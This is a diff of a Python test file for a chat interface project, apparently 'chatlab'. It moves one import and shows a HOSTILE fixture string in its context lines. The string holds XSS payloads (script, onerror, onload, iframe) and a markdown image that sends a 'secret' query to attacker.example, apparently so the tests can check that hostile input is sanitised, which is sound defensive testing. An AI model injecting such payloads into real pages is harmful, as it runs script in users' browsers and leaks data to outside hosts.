@@ -13,13 +13,13 @@ from urllib.parse import urlsplit
 
 import httpx
 import pytest
-from served import site
 
 from chatlab.conversation import Conversation
 from chatlab.engines.fake import FakeEngine
 from chatlab.lab import Lab
 from chatlab.settings import PACKAGE, Settings
 from chatlab.ui.doors import JSON_LIMIT, Doors
+from tests.served import site
 
 HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">
 ![](http://attacker.example/?q=secret) <svg onload="window.hacked=1"></svg> <iframe src="http://attacker.example"></iframe>
